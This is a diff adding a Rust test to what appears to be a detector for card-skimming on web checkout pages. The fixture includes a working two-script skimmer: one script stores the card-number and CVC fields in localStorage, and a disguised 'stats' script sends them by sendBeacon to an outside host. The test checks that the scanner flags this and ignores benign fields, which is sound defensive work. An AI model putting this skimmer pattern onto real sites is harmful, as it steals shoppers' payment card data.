@@ -280,3 +280,75 @@ var fc_params = {"ajax_url":"\/wp-admin\/admin-ajax.php","domain":"2e66632d63616
         )]
     );
 }
+
+/// A page whose card fields are told apart only by a `data-` attribute and a class the
+/// other controls lack. One script keeps "form state" in localStorage by `[data-field]`,
+/// another sends that state out: the card fields are the ones selected, so it is card data.
+/// The same pair gathering the promo-code field's hook stays quiet.
+#[test]
+fn fields_gathered_by_an_attribute_only_card_fields_carry_are_card_fields() {
+    let form = |hook: &str| {
+        format!(
+            r#"<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Kasse</title>
+<link rel="canonical" href="https://{SHOP}/kasse">
+<script src="/js/formstate.js"></script></head><body>
+<form id="kasse" action="/kasse/bestellen" method="post">
+  <label for="k1">E-Mail</label><input id="k1" name="k1" class="feld" data-check="mail">
+  <label for="k9">Gutscheincode</label><input id="k9" name="k9" class="feld" data-promo="1">
+  <label for="k2">Kartennummer</label><input id="k2" name="k2" class="feld js-zahl" data-field="pan" autocomplete="cc-number">
+  <label for="k3">Prüfnummer</label><input id="k3" name="k3" class="feld js-zahl" data-field="cvc" autocomplete="cc-csc">
+  <button type="submit">Jetzt kaufen</button>
+</form><script src="/js/stats.js" async></script></body></html>"#
+        )
+        .replace("HOOK", hook)
+    };
+    let state = |selector: &str| {
+        format!(
+            r#"(function () {{
+  function keep() {{
+    var st = {{}};
+    document.querySelectorAll('{selector}').forEach(function (el) {{ st[el.id] = el.value; }});
+    try {{ localStorage.setItem('kasse.state', JSON.stringify(st)); }} catch (e) {{}}
+  }}
+  document.addEventListener('change', keep);
+}})();"#
+        )
+    };
+    let stats = r#"(function () {
+  var t0 = Date.now();
+  window.addEventListener('pagehide', function () {
+    var s = localStorage.getItem('kasse.state');
+    navigator.sendBeacon('https://beacon.shopstat-eu.net/k', JSON.stringify({ ms: Date.now() - t0, st: s }));
+  });
+})();"#;
+    for selector in ["[data-field]", ".js-zahl"] {
+        let (code, report) = scan(
+            &[("/kasse", form(""))],
+            &[
+                ("/js/formstate.js", &state(selector)),
+                ("/js/stats.js", stats),
+            ],
+            &["--no-cache"],
+        );
+        assert_eq!(code, 1, "{selector}: {report:#}");
+        assert_eq!(
+            exfiltration(&report),
+            vec![(
+                "/kasse".to_string(),
+                vec!["beacon.shopstat-eu.net".to_string()]
+            )],
+            "{selector}"
+        );
+    }
+    for selector in ["[data-promo]", ".feld:not(.js-zahl)[data-check]"] {
+        let (_, report) = scan(
+            &[("/kasse", form(""))],
+            &[
+                ("/js/formstate.js", &state(selector)),
+                ("/js/stats.js", stats),
+            ],
+            &["--no-cache"],
+        );
+        assert!(exfiltration(&report).is_empty(), "{selector}: {report:#}");
+    }
+}
